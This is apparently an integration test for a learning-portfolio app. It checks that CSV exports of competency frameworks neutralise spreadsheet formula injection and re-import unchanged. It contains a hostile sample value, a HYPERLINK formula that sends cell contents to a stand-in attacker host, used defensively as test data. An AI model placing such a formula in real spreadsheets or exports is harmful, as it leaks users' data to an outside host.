import { expect } from "chai";
import { serializeFrameworkJson } from "../../../src/domain/frameworks/index.js";
import { startLtiFixture, type LtiFixture } from "../../support/lti-fixture.js";
import { launchAs, ROLE, unique } from "../../support/portfolio.js";
import { buildFramework, node } from "../../unit/frameworks/build.js";

describe("input: CSV exports cannot carry formulas", () => {
  let fixture: LtiFixture;
  before(async () => {
    fixture = await startLtiFixture();
  });
  after(async () => {
    await fixture.close();
  });

  it("exports a framework whose texts start with = and @ as inert cells that re-import unchanged", async () => {
    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Voir")';
    const definition = buildFramework({
      key: unique("formules").toLowerCase(),
      competences: [node("D1", "@SUM(1+1)", [node("D1.1", hostile), node("D1.2", "-2+3")])],
    });
    const imported = await fixture.carnet.services.frameworks.import({
      platformId: fixture.platform._id,
      text: serializeFrameworkJson(definition),
    });
    if (!imported.ok) throw new Error("framework not imported");
    const teacher = await launchAs(fixture, {
      sub: unique("teacher"),
      name: "Théo Export",
      roles: [ROLE.instructor],
      context: { id: unique("course"), title: "Cours export" },
    });
    const csv = await teacher.browser.get(`${teacher.base}/frameworks/${imported.framework.id}/export.csv`);
    expect(csv.status).to.equal(200);
    // No cell starts with a formula character, quoted or not.
    expect(csv.text).not.to.match(/(^|[,\n])"?[=+\-@]/);
    expect(csv.text).to.contain(`"'=HYPERLINK(`);
    expect(csv.text).to.contain("'@SUM(1+1)");
    const again = await fixture.carnet.services.frameworks.import({
      platformId: fixture.platform._id,
      text: csv.text,
      format: "moodle-csv",
      version: "2",
    });
    if (!again.ok) throw new Error(JSON.stringify(again.problems.slice(0, 3)));
    const titles = again.framework.definition.competences.flatMap((domain) => [
      domain.title.fr,
      ...domain.children.map((child) => child.title.fr),
    ]);
    expect(titles).to.deep.equal(["@SUM(1+1)", hostile, "-2+3"]);
  });
});
